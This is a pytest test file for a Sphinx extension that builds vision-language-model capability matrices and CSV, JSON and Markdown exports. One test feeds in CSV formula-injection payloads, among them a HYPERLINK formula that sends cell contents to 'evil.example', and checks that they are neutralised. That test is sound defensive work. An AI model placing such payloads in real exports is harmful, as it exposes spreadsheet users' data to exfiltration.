"""The capability matrix (header, words, legend, views), the downloads beside a page,
and ``vlmtable export``: each shows exactly the view's rows and columns."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import DOCS, Built, build, copy_root
from docutils import nodes
from htmltable import read_tables

from sphinx_vlmtable.data.validate import load_survey_text
from sphinx_vlmtable.view.export import to_markdown
from sphinx_vlmtable.view.matrix import build_matrix_view
from sphinx_vlmtable.view.options import ViewError, ViewOptions


def matrix_project(tmp_path: Path, options: str = "") -> Path:
    """A copy of ``roots/test-matrix``, its two pages given these options."""
    srcdir = copy_root("matrix", tmp_path)
    if options:
        for page, indent in (("index.rst", "   "), ("m_md.md", "")):
            path = srcdir / page
            text = path.read_text()
            marker = ".. vlm-matrix:: data/c.yaml\n" if page == "index.rst" else "data/c.yaml\n"
            path.write_text(text.replace(marker, marker + options.replace("   ", indent), 1))
    return srcdir


def test_matrix_header_is_the_task_tree_and_cells_say_their_state(tmp_path: Path) -> None:
    done = build(matrix_project(tmp_path))
    assert done.warnings == ""
    for page in ("index.html", "m_md.html"):
        html = done.read(page)
        (table,) = read_tables(html)
        assert [[(c.text, c.rowspan, c.colspan) for c in row] for row in table.head] == [
            [
                ("Model", 2, 1),
                ("Image Captioning", 2, 1),
                ("Visual Grounding", 2, 1),
                ("Visual Agent", 1, 3),
            ],
            [
                ("overall", 1, 1),
                ("Function Calling", 1, 1),
                ("UI Operations/Games/Robotics/Navigation", 1, 1),
            ],
        ]
        assert [[c.text for c in row] for row in table.body] == [
            ["Example-VL", "yes", "yes", "no", "no", "no"],
            ["Example-Agent", "yes", "partial", "yes", "yes", "partial"],
            ["Example-Base"] + ["not stated"] * 5,
        ]
        (matrix,) = done.doctree(page.removesuffix(".html")).findall(nodes.table)
        partial = [
            entry
            for entry in matrix.findall(nodes.entry)
            if "vlm-state-partial" in entry["classes"]
        ]
        assert len(partial) == 2 and all("vlm-state" in entry["classes"] for entry in partial)
        words = [
            inline.astext()
            for entry in partial
            for inline in entry.findall(nodes.inline)
            if "vlm-state-text" in inline["classes"]
        ]
        assert words == ["partial", "partial"]
        assert re.search(
            r'<p class="vlm-legend">Legend: <span class="vlm-legend-item '
            r'vlm-state-yes">yes</span>',
            html,
        )
    css = (done.outdir / "_static" / "vlmtable.css").read_text()
    assert ".vlm-state-text" in css and 'content: "\\25D0" / ""' in css


@pytest.mark.parametrize("builder", ["text", "latex", "man"])
def test_matrix_words_in_other_builders(tmp_path: Path, builder: str) -> None:
    done = build(matrix_project(tmp_path), builder)
    assert done.warnings == ""
    written = "".join(
        p.read_text() for p in done.outdir.rglob("*") if p.suffix in (".txt", ".tex", ".1")
    )
    for word in ("partial", "not stated", "Legend"):
        assert word in written, word


def test_matrix_views_sort_filter_and_task_columns(tmp_path: Path) -> None:
    options = (
        "   :columns: grounding, ui_operations\n   :filter: grounding != no\n   :sort: -year\n"
    )
    done = build(matrix_project(tmp_path, options))
    assert done.warnings == ""
    for page in ("index.html", "m_md.html"):
        (table,) = read_tables(done.read(page))
        assert [[c.text for c in row] for row in table.body] == [
            ["Example-Agent", "partial", "partial"],
            ["Example-VL", "yes", "no"],
        ]


def test_an_unknown_task_is_located_with_a_suggestion(tmp_path: Path) -> None:
    srcdir = matrix_project(tmp_path)
    data = srcdir / "data" / "c.yaml"
    listed = "[Image Captioning, grounding, Imag Captioning]"
    data.write_text(data.read_text().replace("[Image Captioning, grounding]", listed))
    done = build(srcdir)
    assert re.search(
        r"data/c.yaml:19: WARNING: the model states the task 'Imag Captioning', but "
        r"'tasks' has no task with that name or key \(did you mean 'Image "
        r"Captioning'\?\) \(in vlm-matrix at index.rst:4\) \[vlmtable.unknown_key\]",
        done.warnings,
    ), done.warnings


def test_matrix_view_errors() -> None:
    data = load_survey_text(b"models:\n  - model: A\n").data
    with pytest.raises(ViewError, match="no 'tasks'"):
        build_matrix_view(data, ViewOptions())


@pytest.fixture(scope="module")
def downloads(tmp_path_factory: pytest.TempPathFactory) -> Built:
    """``roots/test-downloads`` built once (HTML)."""
    return build(copy_root("downloads", tmp_path_factory.mktemp("downloads")))


def test_downloads_are_the_view_beside_the_page(downloads: Built) -> None:
    assert downloads.warnings == ""
    for page in ("page", "page_md"):
        html = downloads.read(f"sub/{page}.html")
        assert f'<a class="vlm-download reference external" href="{page}.llms.csv">CSV</a>' in html
        written = (downloads.outdir / "sub" / f"{page}.llms.csv").read_text()
        rows = list(csv.reader(io.StringIO(written)))
        assert rows == [
            ["Model", "Released", "Parameters"],
            ["Llama 3.1", "2024-07-23", "405B"],
            ["GPT-3", "2020.05", "175B"],
            ["Qwen2.5", "2024.9", "72B"],
        ]
        records = json.loads((downloads.outdir / "sub" / f"{page}.llms.json").read_text())
        assert records[0] == {"model": "Llama 3.1", "released": "2024-07-23", "params": "405B"}
        assert [r["model"] for r in records] == [row[0] for row in rows[1:]]
        shown = read_tables(html)[0]
        assert [row[0].text for row in shown.body] == [row[0] for row in rows[1:]]


@pytest.mark.parametrize("builder", ["latex", "epub", "text"])
def test_other_builders_write_no_download(tmp_path: Path, builder: str) -> None:
    done = build(copy_root("downloads", tmp_path), builder)
    assert "vlmtable" not in done.warnings
    assert not list(done.outdir.rglob("*.csv"))


def test_absent_values_are_empty_in_csv_and_left_out_of_json(tmp_path: Path) -> None:
    data = "models:\n  - {model: A, year: '2023.10', llm: 'no'}\n  - {model: B}\n"
    path = tmp_path / "d.yaml"
    path.write_text(data)
    command = [sys.executable, "-m", "sphinx_vlmtable", "export", str(path)]
    out = subprocess.run([*command, "--columns", "model,year,llm"], capture_output=True, text=True)
    assert out.returncode == 0
    assert out.stdout == "Model,Year,LLM\nA,2023.10,no\nB,,\n"
    out = subprocess.run(
        [sys.executable, "-m", "sphinx_vlmtable", "export", str(path), "--format", "json"],
        capture_output=True,
        text=True,
    )
    assert json.loads(out.stdout) == [
        {"model": "A", "year": "2023.10", "llm": "no"},
        {"model": "B"},
    ]


def test_export_markdown_prefixes_group_labels_and_escapes_pipes(tmp_path: Path) -> None:
    data = load_survey_text(b"models:\n  - {model: 'A|B', llm: Vicuna}\n").data
    from sphinx_vlmtable.view.table import build_view

    text = to_markdown(build_view(data, ViewOptions(columns=["model", "llm"])))
    assert text == "| Model | Model Architecture: LLM |\n|---|---|\n| A\\|B | Vicuna |\n"


def test_export_cli_views_and_errors(tmp_path: Path) -> None:
    llms = str(DOCS / "data" / "llms.yaml")

    def export(*arguments: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "sphinx_vlmtable", "export", *arguments],
            capture_output=True,
            text=True,
        )

    out = export(
        llms,
        "--format",
        "md",
        "--columns",
        "model,params",
        "--sort=-params",
        "--filter",
        "released >= 2023",
    )
    assert out.stdout.splitlines() == [
        "| Model | Size: Parameters |",
        "|---|---|",
        "| Llama 3.1 | 405B |",
        "| Qwen2.5 | 72B |",
        "| LLaMA | 65B |",
        "| Mixtral 8x7B | 47B (MoE) |",
    ]
    matrix = export(
        str(DOCS / "data" / "capabilities.yaml"), "--matrix", "-o", str(tmp_path / "m.csv")
    )
    assert matrix.returncode == 0
    assert (tmp_path / "m.csv").read_text().splitlines()[0].startswith("Model,Image Captioning")
    bad = export(llms, "--sort", "nope")
    assert bad.returncode == 1 and "cannot sort by 'nope'" in bad.stderr
    assert "Traceback" not in bad.stderr


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(downloads: Built) -> None:
    done = downloads
    rows = list(csv.reader(io.StringIO((done.outdir / "formulas.1.csv").read_text())))
    assert rows[1:] == [
        ['\'=HYPERLINK("https://evil.example/?"&A1,"x")', "'+1+1"],
        ["'@SUM(A1)", "-0.5"],
        ["'-2+3+cmd", "-"],
        ["Plain", "1,200"],
    ]
    records = json.loads((done.outdir / "formulas.1.json").read_text())
    assert records[2]["model"] == "-2+3+cmd"  # JSON keeps the text as written


def test_download_names_are_unique_and_do_not_change_with_other_options(
    downloads: Built,
) -> None:
    done = downloads
    srcdir = done.srcdir
    names = sorted(p.relative_to(done.outdir).as_posix() for p in done.outdir.rglob("*.csv"))
    names = [name for name in names if name.startswith(("x", "sub/z"))]
    assert names == ["sub/z.1.csv", "x-y.1.csv", "x.1.csv", "x.table-1.csv", "x.y-1.csv"]
    single = build(srcdir, "singlehtml")
    html = single.read("index.html")
    for name in names:
        assert f'href="{name}"' in html, name
        assert (single.outdir / name).is_file()
